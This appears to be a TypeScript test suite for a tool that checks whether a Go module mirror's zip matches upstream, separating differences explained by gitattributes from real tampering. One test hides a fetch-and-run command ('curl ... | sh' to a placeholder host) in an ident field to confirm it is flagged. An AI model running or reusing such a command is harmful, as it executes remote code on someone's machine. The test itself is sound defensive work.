import { Buffer } from 'node:buffer';
import { blobId, sha256Hex } from '../../../server/src/dirhash/index.ts';
import { describe, expect, test } from '../../kit.ts';
import { type Compared, type Contents, compare, inShort, type Options } from './copies.ts';

const PLAIN: Contents = {
  'go.mod': 'module example.test/m\n\ngo 1.21\n',
  'm.go': 'package m\n\nfunc F() {}\n',
  'README.md': 'About m.\nMore.\n',
};

async function outcome(upstream: Contents, mirror: Contents, options: Options = {}): Promise<unknown> {
  return inShort((await compare(upstream, mirror, options)).comparison);
}

function crlf(text: string): string {
  return text.replaceAll('\n', '\r\n');
}

/** The plain copy with one file as it is upstream and as it is in the mirror, under attributes. */
async function withFile(
  attributes: string,
  upstream: string | Uint8Array,
  mirror: string | Uint8Array,
  options: Options = {},
): Promise<Compared> {
  const shared = { ...PLAIN, '.gitattributes': attributes };
  return compare({ ...shared, file: upstream }, { ...shared, file: mirror }, options);
}

async function judged(
  attributes: string,
  upstream: string | Uint8Array,
  mirror: string | Uint8Array,
): Promise<unknown> {
  return inShort((await withFile(attributes, upstream, mirror)).comparison);
}

describe('equal copies', () => {
  test('are the same, and nothing is fetched', async () => {
    const { comparison, asked } = await compare(PLAIN, PLAIN);
    expect(comparison).toEqual({ kind: 'same' });
    expect(asked).toEqual([]);
  });

  test('are the same whatever attributes say, and nothing is fetched', async () => {
    const copy = {
      ...PLAIN,
      '.gitattributes': '* text eol=crlf ident filter=lfs\n',
      'vendor/modules.txt': '#\n',
    };
    const { comparison, asked } = await compare(copy, copy);
    expect(comparison).toEqual({ kind: 'same' });
    expect(asked).toEqual([]);
  });

  test('are the same in SHA-256 repositories', async () => {
    expect(await outcome(PLAIN, PLAIN, { format: 'sha256' })).toBe('same');
  });

  test('are the same when upstream has what no zip holds', async () => {
    const upstream = {
      ...PLAIN,
      'link@': 'm.go',
      'sub%': 'commit',
      'nested/go.mod': 'module example.test/m/nested\n',
      'nested/x.go': 'package x\n',
      'vendor/example.test/a/a.go': 'package a\n',
      '.hg_archival.txt': 'repo: 1\n',
    };
    expect(await outcome(upstream, PLAIN)).toBe('same');
  });

  test('are the same for a module in a sub-directory, with the licence of the root', async () => {
    const upstream = {
      LICENSE: 'Do as you like.\n',
      'other.go': 'package x\n',
      'sub/go.mod': 'module m\n',
      'sub/m.go': 'package m\n',
    };
    const mirror = { 'go.mod': 'module m\n', 'm.go': 'package m\n', LICENSE: 'Do as you like.\n' };
    expect(await outcome(upstream, mirror, { directory: 'sub' })).toBe('same');
  });
});

describe('differences', () => {
  test('are listed by side, sorted', async () => {
    const mirror = {
      ...PLAIN,
      'm.go': 'package m\n\nfunc F() { evil() }\n',
      'z.go': 'package m\n',
      'a.go': 'package m\n',
    };
    const upstream = { ...PLAIN, 'gone.go': 'package m\n' };
    const { comparison, asked } = await compare(upstream, mirror);
    expect(comparison).toEqual({
      kind: 'differs',
      changed: ['m.go'],
      onlyMirror: ['a.go', 'z.go'],
      onlyUpstream: ['gone.go'],
      explained: [],
      hints: [],
      undecided: [],
    });
    expect(asked).toEqual([]);
  });

  test('in nothing but line ends are differences where no attribute asks for them', async () => {
    const mirror = { ...PLAIN, 'm.go': crlf('package m\n\nfunc F() {}\n') };
    expect(await outcome(PLAIN, mirror)).toEqual({ changed: ['m.go'] });
  });

  test('include files of a nested module, and vendored ones', async () => {
    const more = {
      'nested/go.mod': 'module n\n',
      'nested/x.go': 'package x\n',
      'vendor/example.test/a/a.go': 'package a\n',
    };
    expect(await outcome({ ...PLAIN, ...more }, { ...PLAIN, ...more })).toEqual({
      onlyMirror: Object.keys(more).sort(),
    });
  });

  test('throw when the manifest was made with another object format', async () => {
    const { manifestOf, entriesOf } = await import('./copies.ts');
    const { compareModule } = await import('../../../server/src/divergence/index.ts');
    const copies = {
      manifest: manifestOf(PLAIN, 'sha1'),
      entries: entriesOf(PLAIN, 'sha256'),
      directory: '',
    };
    const ways = {
      readMirror: () => new Uint8Array(),
      goVersionOf: () => null,
      readBlobs: async () => new Map(),
    };
    await expect(compareModule({ ...copies, ...ways })).rejects.toThrow(RangeError);
  });
});

describe('attributes explain', () => {
  test('line ends, from the mirror alone', async () => {
    const { comparison, asked } = await withFile('file eol=crlf\n', 'a\nb\n', 'a\r\nb\r\n');
    expect(inShort(comparison)).toEqual({ file: 'line-endings' });
    expect(asked).toEqual([['file eol=crlf\n']]);
  });

  test('line ends of a blob that has both kinds, with that one blob fetched', async () => {
    const { comparison, asked } = await withFile('* -text\nfile text eol=crlf\n', 'a\r\nb\n', 'a\r\nb\r\n');
    expect(inShort(comparison)).toEqual({ file: 'line-endings' });
    expect(asked).toEqual([['* -text\nfile text eol=crlf\n'], ['a\r\nb\n']]);
  });

  test('ident, expanded once or anew', async () => {
    for (const content of ['// $Id$\n', '// $Id: 0123456789012345678901234567890123456789 $\n']) {
      const id = blobId(Buffer.from(content), 'sha1');
      expect(await judged('file ident\n', content, `// $Id: ${id} $\n`)).toEqual({ file: 'ident' });
    }
  });

  test('encodings, in either byte order where the name leaves it open', async () => {
    const little = Buffer.from('\ufeffzwei ä\n', 'utf16le');
    const big = Buffer.from(little).swap16();
    expect(await judged('file working-tree-encoding=UTF-16\n', 'zwei ä\n', little)).toEqual({
      file: 'encoding',
    });
    expect(await judged('file working-tree-encoding=UTF-16\n', 'zwei ä\n', big)).toEqual({
      file: 'encoding',
    });
    expect(await judged('file working-tree-encoding=UTF-16LE-BOM\n', 'zwei ä\n', big)).toEqual({
      changed: ['file'],
    });
    const latin = Buffer.from('zwei ä\n', 'latin1');
    expect(await judged('file working-tree-encoding=ISO-8859-1\n', 'zwei ä\n', latin)).toEqual({
      file: 'encoding',
    });
  });

  test('several conversions at once', async () => {
    const id = blobId(Buffer.from('$Id$\nä\n'), 'sha1');
    const mirror = Buffer.from(`\ufeff$Id: ${id} $\r\nä\r\n`, 'utf16le');
    const attributes = 'file ident eol=crlf working-tree-encoding=UTF-16\n';
    expect(await judged(attributes, '$Id$\nä\n', mirror)).toEqual({ file: 'attributes' });
  });

  test('files of a sub-directory by the attributes of the root', async () => {
    const upstream = { '.gitattributes': '*.txt eol=crlf\n', 'sub/go.mod': 'module m\n', 'sub/a.txt': 'a\n' };
    const mirror = { 'go.mod': 'module m\n', 'a.txt': 'a\r\n' };
    expect(await outcome(upstream, mirror, { directory: 'sub' })).toEqual({ 'a.txt': 'line-endings' });
  });

  test('an attribute file that converts itself', async () => {
    const attributes = '* text=auto eol=crlf\n';
    const upstream = { ...PLAIN, '.gitattributes': attributes };
    const mirror = Object.fromEntries(
      Object.entries(upstream).map(([path, content]) => [path, crlf(String(content))]),
    );
    const causes = Object.fromEntries(Object.keys(upstream).map((path) => [path, 'line-endings']));
    expect(await outcome(upstream, mirror)).toEqual(causes);
  });
});

describe('attributes do not explain', () => {
  test('a change under cover of line ends', async () => {
    expect(await judged('file eol=crlf\n', 'a\nb\n', 'a\r\nEVIL\r\n')).toEqual({ changed: ['file'] });
    expect(await judged('file text=auto eol=crlf\n', 'a\nb\n', 'a\r\nb\r\nEVIL\r\n')).toEqual({
      changed: ['file'],
    });
  });

  test('line ends that were converted in part, or where git would not', async () => {
    expect(await judged('file eol=crlf\n', 'a\nb\n', 'a\r\nb\n')).toEqual({ changed: ['file'] });
    expect(await judged('file text=auto eol=crlf\n', 'a\0\nb\n', 'a\0\r\nb\r\n')).toEqual({
      changed: ['file'],
    });
    expect(await judged('file -text\n', 'a\nb\n', 'a\r\nb\r\n')).toEqual({ changed: ['file'] });
  });

  test('a text hidden in the place of an id', async () => {
    const hidden = '// $Id: curl${IFS}example.invalid|sh $\n';
    expect(await judged('file ident\n', '// $Id$\n', hidden)).toEqual({ changed: ['file'] });
    const wrong = `// $Id: ${'0'.repeat(40)} $\n`;
    expect(await judged('file ident\n', '// $Id$\n', wrong)).toEqual({ changed: ['file'] });
  });

  test('another text in the right encoding', async () => {
    const mirror = Buffer.from('\ufeffböse\n', 'utf16le');
    expect(await judged('file working-tree-encoding=UTF-16\n', 'gut\n', mirror)).toEqual({
      changed: ['file'],
    });
  });

  test('a file whose attributes are elsewhere', async () => {
    const upstream = { ...PLAIN, 'other/.gitattributes': '* eol=crlf\n', file: 'a\n' };
    expect(await outcome(upstream, { ...upstream, file: 'a\r\n' })).toEqual({ changed: ['file'] });
    const { comparison, asked } = await compare(upstream, { ...upstream, file: 'b\n' });
    expect(inShort(comparison)).toEqual({ changed: ['file'] });
    expect(asked).toEqual([]);
  });

  test('a lent licence, which is never converted', async () => {
    const upstream = { '.gitattributes': '* eol=crlf\n', LICENSE: 'Yes.\n', 'sub/go.mod': 'module m\n' };
    const mirror = { 'go.mod': 'module m\n', LICENSE: 'Yes.\r\n' };
    expect(await outcome(upstream, mirror, { directory: 'sub' })).toEqual({ changed: ['LICENSE'] });
  });
});

describe('Git LFS', () => {
  const content = 'a large picture';
  const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${sha256Hex(Buffer.from(content))}\nsize ${content.length}\n`;
  const lfs = '*.png filter=lfs diff=lfs merge=lfs -text\nfile filter=lfs -text\n';

  test('explains the very content that the pointer names', async () => {
    const { comparison, asked } = await withFile(lfs, pointer, content);
    expect(inShort(comparison)).toEqual({ file: 'lfs-content' });
    expect(asked).toEqual([[lfs]]);
  });

  test('explains it for pointers in other words, with that one blob fetched', async () => {
    const other = pointer.replace('\noid', '\next-0-foo sha256:00\noid');
    const { comparison, asked } = await withFile(lfs, other, content);
    expect(inShort(comparison)).toEqual({ file: 'lfs-content' });
    expect(asked).toEqual([[lfs], [other]]);
  });

  test('explains no other content, and none where no attribute asks for it', async () => {
    expect(await judged(lfs, pointer, 'another picture')).toEqual({
      changed: ['file'],
      hints: ['file filter'],
    });
    expect(await judged('* -text\n', pointer, content)).toEqual({ changed: ['file'] });
    expect(await judged(lfs, content, pointer)).toEqual({ changed: ['file'], hints: ['file filter'] });
  });
});

describe('the vendor rule of other Go versions', () => {
  const newer = { 'go.mod': 'module m\n\ngo 1.24\n', 'm.go': 'package m\n' };
  const older = { ...newer, 'go.mod': 'module m\n\ngo 1.23\n' };
  const vendored = { 'vendor/modules.txt': '# m\n', 'p/vendor/x.go': 'package vendor\n' };

  test('follows the go line', async () => {
    expect(await outcome({ ...newer, ...vendored }, { ...newer, 'p/vendor/x.go': 'package vendor\n' })).toBe(
      'same',
    );
    expect(await outcome({ ...older, ...vendored }, { ...older, 'vendor/modules.txt': '# m\n' })).toBe(
      'same',
    );
  });

  test('explains a zip that follows it in every file', async () => {
    const causes = { 'vendor/modules.txt': 'vendor-rule', 'p/vendor/x.go': 'vendor-rule' };
    expect(await outcome({ ...newer, ...vendored }, { ...newer, 'vendor/modules.txt': '# m\n' })).toEqual(
      causes,
    );
    expect(
      await outcome({ ...older, ...vendored }, { ...older, 'p/vendor/x.go': 'package vendor\n' }),
    ).toEqual(causes);
  });

  test('explains nothing when the zip follows neither rule', async () => {
    expect(await outcome({ ...newer, ...vendored }, { ...newer, ...vendored })).toEqual({
      onlyMirror: ['vendor/modules.txt'],
    });
    expect(await outcome({ ...newer, ...vendored }, newer)).toEqual({ onlyUpstream: ['p/vendor/x.go'] });
  });

  test('explains no other content', async () => {
    const mirror = { ...newer, 'vendor/modules.txt': 'EVIL\n' };
    expect(await outcome({ ...newer, ...vendored }, mirror)).toMatchObject({
      changed: ['vendor/modules.txt'],
    });
  });

  test("is taken from upstream's go.mod where the mirror's differs", async () => {
    const mirror = { ...vendored, ...newer, 'go.mod': 'module m\n\ngo 1.20\n' };
    const { 'p/vendor/x.go': _, ...withoutIt } = mirror;
    const { comparison, asked } = await compare({ ...newer, ...vendored }, withoutIt);
    expect(inShort(comparison)).toMatchObject({
      changed: ['go.mod'],
      explained: [expect.any(String), expect.any(String)],
    });
    expect(asked).toEqual([['module m\n\ngo 1.24\n']]);
  });

  test('leaves the disputed files undecided when that go.mod is withheld', async () => {
    const mirror = { ...newer, 'go.mod': 'module m\n\ngo 1.20\n', 'vendor/modules.txt': '# m\n' };
    const withheld = { withheld: ['module m\n\ngo 1.24\n'] };
    expect(await outcome({ ...newer, ...vendored }, mirror, withheld)).toEqual({
      changed: ['go.mod'],
      undecided: ['p/vendor/x.go', 'vendor/modules.txt'],
    });
  });
});

describe('a zip with the line ends of Windows', () => {
  const upstream = { ...PLAIN, 'x.bin': 'a\0\n', 'old.txt': 'has\r\nboth\n' };
  const mirror = Object.fromEntries(
    Object.entries(upstream).map(([path, text]) => [
      path,
      /[\0\r]/.test(String(text)) ? text : crlf(String(text)),
    ]),
  );

  test('is explained when every text file has them', async () => {
    expect(await outcome(upstream, mirror)).toEqual({
      'README.md': 'builder-line-endings',
      'go.mod': 'builder-line-endings',
      'm.go': 'builder-line-endings',
    });
  });

  test('is not explained when one has not, or when anything else differs', async () => {
    expect(await outcome(upstream, { ...mirror, 'README.md': PLAIN['README.md'] ?? '' })).toEqual({
      changed: ['go.mod', 'm.go'],
    });
    expect(
      await outcome(upstream, { ...mirror, 'm.go': crlf('package m\n\nfunc F() { evil() }\n') }),
    ).toMatchObject({
      changed: ['README.md', 'go.mod', 'm.go'],
    });
    expect(await outcome(upstream, { ...mirror, 'new.go': 'package m\r\n' })).toMatchObject({
      onlyMirror: ['new.go'],
    });
  });
});

describe('causes that are named but not forgiven', () => {
  test('export-ignore, of the file or of a directory', async () => {
    const upstream = {
      ...PLAIN,
      '.gitattributes': 'docs/ export-ignore\nx.txt export-ignore\n',
      'docs/a.md': 'a\n',
      'x.txt': 'x\n',
      'y.txt': 'y\n',
    };
    const mirror = { ...PLAIN, '.gitattributes': upstream['.gitattributes'] };
    expect(await outcome(upstream, mirror)).toEqual({
      onlyUpstream: ['docs/a.md', 'x.txt', 'y.txt'],
      hints: ['docs/a.md export-ignore', 'x.txt export-ignore'],
    });
  });

  test('export-subst, when the rest of the file is equal', async () => {
    const blob = 'const V = "$Format:%H$" // $Format:%d$\n';
    const exported = 'const V = "0123abcd" //  (tag: v1)\n';
    expect(await judged('file export-subst\n', blob, exported)).toEqual({
      changed: ['file'],
      hints: ['file export-subst'],
    });
    expect(await judged('file export-subst\n', blob, `EVIL\n${exported}`)).toEqual({ changed: ['file'] });
    expect(await judged('* -text\n', blob, exported)).toEqual({ changed: ['file'] });
  });

  test('other filters', async () => {
    expect(await judged('file filter=git-crypt\n', 'sealed', 'open')).toEqual({
      changed: ['file'],
      hints: ['file filter'],
    });
  });
});

describe('what cannot be learnt', () => {
  const attributes = 'file eol=crlf\n';

  test('makes the outcome undetermined', async () => {
    const one = await withFile(attributes, 'a\n', 'a\r\n', { withheld: [attributes] });
    expect(inShort(one.comparison)).toBe('undetermined: blobs-unavailable');
    const two = await withFile(attributes, 'a\r\nb\n', 'a\r\nb\r\n', { withheld: ['a\r\nb\n'] });
    expect(inShort(two.comparison)).toBe('undetermined: blobs-unavailable');
    expect(await judged('file working-tree-encoding=EBCDIC-US\n', 'a\n', 'b')).toBe(
      'undetermined: unknown-encoding',
    );
  });

  test('does not hide a certain difference', async () => {
    const upstream = { ...PLAIN, '.gitattributes': attributes, file: 'a\n' };
    const mirror = { ...upstream, file: 'a\r\n', 'evil.go': 'package m\n' };
    const withheld = { withheld: [attributes] };
    expect(await outcome(upstream, mirror, withheld)).toEqual({
      onlyMirror: ['evil.go'],
      undecided: ['file'],
    });
  });

  test('is too complex an attribute file, in bounded time, and does not hide a certain difference', async () => {
    // Each of these may stand for any number of directories: git itself takes for ever.
    const hostile = `${'**/a/'.repeat(20)}b -text\n`;
    const name = `${'a/'.repeat(60)}c`;
    const upstream = { ...PLAIN, '.gitattributes': hostile, [name]: 'a\n' };
    const mirror = { ...upstream, [name]: 'b\n' };
    expect(await outcome(upstream, mirror)).toBe('undetermined: attributes-too-complex');
    expect(await outcome({ ...upstream, 'gone.go': 'x' }, { ...mirror, 'evil.go': 'package m\n' })).toEqual({
      onlyMirror: ['evil.go'],
      onlyUpstream: ['gone.go'],
      undecided: [name],
    });
  });

  test('is a rejection of upstream, in its words', async () => {
    const { compareModule } = await import('../../../server/src/divergence/index.ts');
    const { manifestOf, entriesOf } = await import('./copies.ts');
    const upstream = { '.gitattributes': attributes, file: 'a\n' };
    const comparison = await compareModule({
      manifest: manifestOf({ '.gitattributes': attributes, file: 'a\r\n' }),
      entries: entriesOf(upstream),
      directory: '',
      readMirror: () => Buffer.from('a\r\n'),
      goVersionOf: () => null,
      readBlobs: () => Promise.reject(new Error('the server hung up')),
    });
    expect(comparison).toEqual({
      kind: 'undetermined',
      reason: 'blobs-unavailable',
      detail: 'the server hung up',
    });
  });
});

describe('a commit from which no zip can be built', () => {
  test('is said to be so, with the differences', async () => {
    const upstream = { ...PLAIN, 'a*b.txt': 'x\n', 'readme.MD': 'y\n' };
    expect(await outcome(upstream, PLAIN)).toEqual({
      onlyUpstream: ['a*b.txt', 'readme.MD'],
      reasons: ['a*b.txt invalid-path', 'readme.MD collision'],
    });
  });

  test('is the same all the same when the mirror holds exactly its files', async () => {
    const copy = { ...PLAIN, 'a*b.txt': 'x\n' };
    expect(await outcome(copy, copy)).toBe('same');
  });

  test('may be one at which git gives up', async () => {
    expect(await judged('file working-tree-encoding\n', 'a\n', 'b\n')).toEqual({
      changed: ['file'],
      reasons: ['file bad-encoding-attribute'],
    });
    const upstream = { ...PLAIN, 'other/.git/config': '[core]\n' };
    expect(await outcome(upstream, { ...PLAIN, 'm.go': 'package m\n' })).toMatchObject({
      reasons: ['other/.git/config forbidden-by-git'],
    });
  });
});
